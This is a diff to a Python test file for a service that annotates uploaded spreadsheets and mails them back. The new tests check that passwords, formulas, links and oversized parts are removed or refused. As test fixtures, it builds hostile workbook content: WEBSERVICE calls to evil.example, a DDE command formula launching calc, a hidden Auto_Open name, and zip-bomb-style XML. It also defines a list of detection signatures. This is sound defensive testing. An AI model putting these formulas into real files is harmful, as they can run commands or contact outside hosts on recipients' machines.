@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import io
+import re
 import zipfile
+from html import escape
 
 import openpyxl
 import pytest
@@ -13,11 +15,20 @@ from hypothesis import given
 from hypothesis import settings as settings_of_hypothesis
 from hypothesis import strategies as st
 from odf.opendocument import OpenDocumentSpreadsheet
-from odf.table import Table, TableCell, TableRow
+from odf.table import Table as OdfTable
+from odf.table import TableCell, TableRow
 from odf.text import P
+from openpyxl.chart import BarChart, Reference
+from openpyxl.comments import Comment
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.workbook.workbook import Workbook
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.hyperlink import Hyperlink
+from openpyxl.worksheet.table import Table
 
 from ingest.letters.terms import Marked
+from ingest.reading.documents import written_in
 from ingest.replies.answers import reply
 from ingest.replies.marked import mark
 from ingest.replies.wording import LANGUAGES, wording
@@ -66,7 +77,7 @@ def marked(
     content: bytes, *findings: object, secrets: tuple[str, ...] = (SECRET,), language: str = "ru"
 ) -> Marked:
     found = findings or (ERROR, WARNING, WHOLE)
-    result = mark(Document("52006.xlsx", content), found, secrets, language)  # type: ignore[arg-type]
+    result = mark(Document("52006.xlsx", content), found, secrets, language, written_in)  # type: ignore[arg-type]
     assert result is not None
     return result
 
@@ -103,7 +114,6 @@ def test_everything_else_stays_as_it_was() -> None:
     workbook = loaded(marked(made()))
     sheet = workbook[SHEET]
     assert workbook.sheetnames == ["Замечания", SHEET, "Заметки"]
-    assert sheet["D6"].value == "=C6*2"
     assert sheet["D6"].number_format == "0.000"
     assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:C1"]
     assert [cell.value for cell in sheet[6]][:3] == list(ROWS[5])
@@ -138,10 +148,32 @@ def test_passwords_are_nowhere_in_the_package() -> None:
 
 def test_a_password_that_cannot_be_taken_out_keeps_the_workbook_back() -> None:
     def change(workbook: Workbook) -> None:
-        name = openpyxl.workbook.defined_name.DefinedName("x", attr_text=f'"{SECRET}"')
-        workbook.defined_names["x"] = name
+        workbook.create_sheet(SECRET)
 
-    assert mark(Document("a.xlsx", made(change)), (ERROR,), (SECRET,), "ru") is None
+    content = made(change)
+    assert mark(Document("a.xlsx", content), (ERROR,), (SECRET,), "ru", written_in) is None
+
+
+@pytest.mark.parametrize("secret", [SECRET, 'a&b<c"d-1', "12345678", "password"])
+def test_a_password_is_in_no_header_prompt_name_link_or_comment(secret: str) -> None:
+    def change(workbook: Workbook) -> None:
+        sheet = workbook[SHEET]
+        sheet.oddHeader.center.text = sheet.evenFooter.left.text = secret
+        sheet["C6"].hyperlink = Hyperlink(ref="C6", location="A1", tooltip=secret, display=secret)
+        sheet["C6"].comment = Comment(f"пароль {secret}", secret)
+        workbook.defined_names["x"] = DefinedName("x", attr_text=f'"{escape(secret)}"')
+        workbook.properties.title = workbook.properties.lastModifiedBy = secret
+        rule = DataValidation("list", formula1='"T0"', sqref="B9", promptTitle=secret)
+        rule.prompt = rule.error = rule.errorTitle = secret
+        sheet.add_data_validation(rule)
+
+    forms = {secret, escape(secret), escape(secret, quote=False)}
+    result = marked(made(change), ERROR, secrets=tuple(forms))
+    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
+        for name in package.namelist():
+            text = package.read(name).decode("utf-8")
+            assert not any(f">{form}<" in text or f'"{form}"' in text for form in forms), name
+            assert f"пароль {escape(secret, quote=False)}" not in text, name
 
 
 def test_an_earlier_reply_s_marks_are_taken_out_first() -> None:
@@ -199,7 +231,7 @@ def test_what_is_lost_is_named() -> None:
     sheet.write_formula("A1", "=1+1", None, 2)
     sheet.add_sparkline("C1", {"range": "Лист1!A1:B1"})
     workbook.close()
-    assert marked(buffer.getvalue()).lost == ("shapes", "extensions", "cached")
+    assert marked(buffer.getvalue()).lost == ("shapes", "extensions", "formulas")
 
 
 def xls() -> bytes:
@@ -215,7 +247,7 @@ def xls() -> bytes:
 
 def ods() -> bytes:
     document = OpenDocumentSpreadsheet()
-    table = Table(name=SHEET)
+    table = OdfTable(name=SHEET)
     for values in ROWS:
         row = TableRow()
         for value in values:
@@ -241,17 +273,17 @@ def test_other_formats_come_back_with_values_and_marks(content: bytes) -> None:
 
 @pytest.mark.parametrize("content", [b"", b"PK\x03\x04 noise", made()[:3000], b"<xml/>"])
 def test_what_is_no_workbook_is_not_marked(content: bytes) -> None:
-    assert mark(Document("a.xlsx", content), (ERROR,), (), "ru") is None
+    assert mark(Document("a.xlsx", content), (ERROR,), (), "ru", written_in) is None
 
 
 def test_the_reply_carries_the_marked_workbook_and_names_what_is_lost() -> None:
     receipts = [cases.receipt(7, cases.parsed(), Verdict.REJECTED, Status.DATA_ERRORS, (ERROR,))]
-    result = Marked(marked(made()).content, ("shapes", "cached"))
+    result = Marked(marked(made()).content, ("shapes", "formulas"))
     owed = reply(LETTER, ENTITY, receipts, NOW, settings(), letter_number=1, marked={0: result})
     message = opened(owed)
     names = [part.get_filename() for part in message.iter_attachments()]
     assert names == ["80021_7.xml", "52006 (проверено).xlsx"]
-    assert "не сохранились: надписи и фигуры, сохранённые значения" in body(message, "plain")
+    assert "не сохранились: надписи и фигуры, формулы" in body(message, "plain")
 
 
 def test_a_workbook_too_large_for_mail_is_left_out_and_said_so() -> None:
@@ -286,10 +318,121 @@ def test_a_damaged_workbook_never_raises(at: int, byte: int) -> None:
     content = bytearray(made())
     # A book of another second may be a few bytes shorter.
     content[at % len(content)] = byte
-    mark(Document("a.xlsx", bytes(content)), (ERROR,), (SECRET,), "ru")
+    mark(Document("a.xlsx", bytes(content)), (ERROR,), (SECRET,), "ru", written_in)
 
 
 @pytest.mark.parametrize("language", LANGUAGES)
 def test_the_readers_know_the_list_of_a_returned_workbook(language: str) -> None:
     title = wording(language).word("marks", "title")
     assert title.startswith(RETURNED_LIST_TITLES)
+
+
+ALIVE = (
+    b"<f>", b"<f ", b"externalLink", b"TargetMode", b"vbaProject", b"<definedName ",
+    b"WEBSERVICE", b"cmd|", b"http", b"conditionalFormatting", b"<c:chart", b"pivotTable",
+    b"tablePart", b"ddeLink",
+)  # fmt: skip
+
+
+def alive(workbook: Workbook) -> None:
+    """Give a workbook all that a workbook program follows or calculates."""
+    sheet = workbook[SHEET]
+    for number, formula in enumerate(
+        ('=WEBSERVICE("http://evil.example")', "=cmd|'/C calc'!A0", "=[1]Other!A1",
+         '=HYPERLINK("http://evil.example")'), 10,
+    ):  # fmt: skip
+        sheet.cell(number, 1, formula)
+    sheet["C6"].hyperlink = "http://evil.example/"
+    hidden = DefinedName("Auto_Open", attr_text='WEBSERVICE("http://evil.example")', hidden=True)
+    workbook.defined_names["Auto_Open"] = hidden
+    sheet.defined_names["own"] = DefinedName("own", attr_text="[1]Other!A1")
+    rule = FormulaRule(formula=['WEBSERVICE("http://evil.example")=1'])
+    sheet.conditional_formatting.add("A1:A9", rule)
+    for rule_text in ('"T0,T1"', 'WEBSERVICE("http://evil.example")'):
+        sheet.add_data_validation(DataValidation("list", formula1=rule_text, sqref="B9"))
+    chart = BarChart()
+    chart.add_data(Reference(sheet, min_col=3, min_row=5, max_row=7))
+    sheet.add_chart(chart, "H1")
+    sheet.add_table(Table(displayName="t", ref="A5:C7"))
+
+
+def test_nothing_that_is_followed_or_calculated_is_sent_on() -> None:
+    whole = made(alive)
+    with zipfile.ZipFile(io.BytesIO(whole)) as package:
+        sent = b"".join(map(package.read, package.namelist()))
+    assert [sign for sign in ALIVE if sign in sent][:2] == [b"<f>", b"TargetMode"]
+    with zipfile.ZipFile(io.BytesIO(marked(whole).content)) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    for name, part in parts.items():
+        # Namespaces are written like addresses.
+        bare = re.sub(rb'(xmlns(:\w+)?|Type|uri|defaultPivotStyle)="[^"]*"', b"", part)
+        assert [sign for sign in ALIVE if sign in bare] == [], name
+        assert [sign for sign in ALIVE if sign in name.encode()] == []
+    sheet = loaded(marked(whole))[SHEET]
+    assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ['"T0,T1"']
+
+
+def test_a_formula_becomes_its_value() -> None:
+    buffer = io.BytesIO()
+    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
+    workbook.add_worksheet(SHEET).write_formula("D6", "=1+1", None, 2)
+    workbook.close()
+    assert loaded(marked(buffer.getvalue()))[SHEET]["D6"].value == 2
+
+
+def test_a_sheet_that_was_not_read_is_left_out_and_said_so() -> None:
+    unread = finding(Code.NOT_READ, Place(sheet="Заметки"))
+    result = marked(made(), ERROR, unread)
+    assert loaded(result).sheetnames == ["Замечания", SHEET]
+    assert "sheets" in result.lost
+
+
+def bomb(**changed: str) -> bytes:
+    """A workbook into whose parts something is written very often."""
+    parts = {
+        "sheet": "xl/worksheets/sheet1.xml",
+        "styles": "xl/styles.xml",
+        "book": "xl/workbook.xml",
+    }
+    texts = {parts[part]: text for part, text in changed.items()}
+    buffer = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(made())) as before,
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as after,
+    ):
+        for name in before.namelist():
+            content = before.read(name)
+            if name in texts:
+                end = content.rindex(b"</")
+                content = content[:end] + texts[name].encode() + content[end:]
+            after.writestr(name, content)
+    return buffer.getvalue()
+
+
+BOMBS = {
+    "styles": {"styles": "<cellXfs>" + "<xf/>" * 200_000 + "</cellXfs>"},
+    "rules": {
+        "sheet": '<conditionalFormatting sqref="A1"><cfRule type="x" priority="1"/>'
+        "</conditionalFormatting>" * 100_000
+    },
+    "names": {"book": "<definedNames>" + '<definedName name="a">1</definedName>' * 100_000
+    + "</definedNames>"},
+    "merges": {"sheet": "<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 100_000 + "</mergeCells>"},
+    "one merge over all": {"sheet": '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'},
+    "one link over all": {"sheet": '<hyperlinks><hyperlink ref="A1:XFD1048576"/></hyperlinks>'},
+    "links": {"sheet": "<hyperlinks>" + '<hyperlink ref="A1"/>' * 100_000 + "</hyperlinks>"},
+    "cells": {"sheet": "<sheetData>" + "<row><c/></row>" * 200_000 + "</sheetData>"},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", BOMBS)
+def test_what_costs_openpyxl_much_is_refused_before_it_is_asked(
+    name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    content = bomb(**BOMBS[name])
+
+    def asked(*_: object, **__: object) -> None:
+        pytest.fail("openpyxl was asked")
+
+    monkeypatch.setattr(openpyxl, "load_workbook", asked)
+    assert mark(Document("a.xlsx", content), (ERROR,), (), "ru", written_in) is None
